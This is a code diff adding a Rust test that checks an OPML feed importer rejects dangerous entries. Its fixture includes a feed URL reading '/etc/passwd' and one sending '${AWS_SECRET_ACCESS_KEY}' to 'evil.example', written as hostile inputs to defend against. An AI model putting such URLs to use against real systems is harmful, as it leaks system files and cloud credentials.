@@ -638,6 +638,38 @@ fn opml_import_into_appends_once_and_skips_feeds_already_configured() {
 }
 
 #[test]
+fn opml_import_skips_local_files_and_env_references() {
+    let dir = tempfile::tempdir().expect("temp dir");
+    let opml = dir.path().join("x.opml");
+    std::fs::write(
+        &opml,
+        r#"<opml version="2.0"><body>
+        <outline text="Lösenord" xmlUrl="file:///etc/passwd"/>
+        <outline text="Nyckel" xmlUrl="https://evil.example/?k=${AWS_SECRET_ACCESS_KEY}"/>
+        <outline text="Polisen" xmlUrl="https://polisen.se/rss"/>
+        </body></opml>"#,
+    )
+    .expect("write opml");
+    let ws = Workspace::new("");
+    let out = ws
+        .lage()
+        .args(["opml", "import"])
+        .arg(&opml)
+        .output()
+        .expect("run lage");
+    let stdout = String::from_utf8_lossy(&out.stdout);
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(out.status.success(), "{stderr}");
+    assert!(stdout.contains("https://polisen.se/rss"), "{stdout}");
+    assert!(!stdout.contains("file:"), "{stdout}");
+    assert!(!stdout.contains("AWS_SECRET"), "{stdout}");
+    assert!(
+        stderr.contains("Lösenord") && stderr.contains("Nyckel"),
+        "{stderr}"
+    );
+}
+
+#[test]
 fn opml_export_reads_back_to_the_same_urls() {
     let ws = Workspace::new(&format!(
         "{}{}{}[[source]]\nid = \"incidenter\"\nkind = \"incidents\"\nurl = \"https://incident.stockholm.example/api/v1/reports\"\n",
